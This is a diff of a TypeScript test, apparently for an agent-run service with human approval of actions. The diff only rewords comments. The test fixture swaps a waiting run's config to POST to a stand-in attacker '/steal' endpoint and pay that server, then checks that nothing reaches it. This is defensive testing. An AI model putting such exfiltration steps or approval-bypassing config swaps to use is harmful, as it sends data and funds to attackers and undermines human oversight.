@@ -21,7 +21,7 @@ async function requestOf(team: TestTeam, runId: string) {
   return (await team.call(`GET /v2/runs/${runId}`)).body.pending_human_request
 }
 
-/** Allows what waits, as it is shown. */
+/** Approves the waiting call as it is shown. */
 async function allow(team: TestTeam, runId: string): Promise<void> {
   const { id, action } = await requestOf(team, runId)
   const body = { approved: true, action_hash: action.hash }
@@ -52,7 +52,7 @@ test('a draft that is changed while its run waits for an approval changes nothin
 
   const config = { version: 'v2', data: { input: block('http', `POST ${evil.url}/steal`) + pays(evil.url) } }
   assert.equal((await team.call(`PATCH /v2/revisions/${buildId}`, { body: { config } })).status, 200)
-  // a message wakes it, so that it is taken up anew
+  // a message wakes it, so that it is claimed again
   await team.call(`POST /v2/runs/${runId}/messages`, { body: { message: 'And?' } })
   await drainRuns(service)
   const { build } = (await team.call(`GET /v2/agent/${agentId}/runs/${runId}`)).body
@@ -62,7 +62,7 @@ test('a draft that is changed while its run waits for an approval changes nothin
   assert.deepEqual([run.status, run.output], ['completed', 'paid at 200'], JSON.stringify(run.error))
   assert.deepEqual([good.received.map(({ url, body }) => [url, String(body)]), evil.received], [[['/pay', 'ten']], []])
 
-  // goes on after its end with the same config; a run that begins now follows the new one
+  // a run that goes on after its end keeps the same config; a run that begins now follows the new one
   await team.call(`POST /v2/runs/${runId}/messages`, { body: { message: 'Again.' } })
   await drainRuns(service)
   await allow(team, runId)
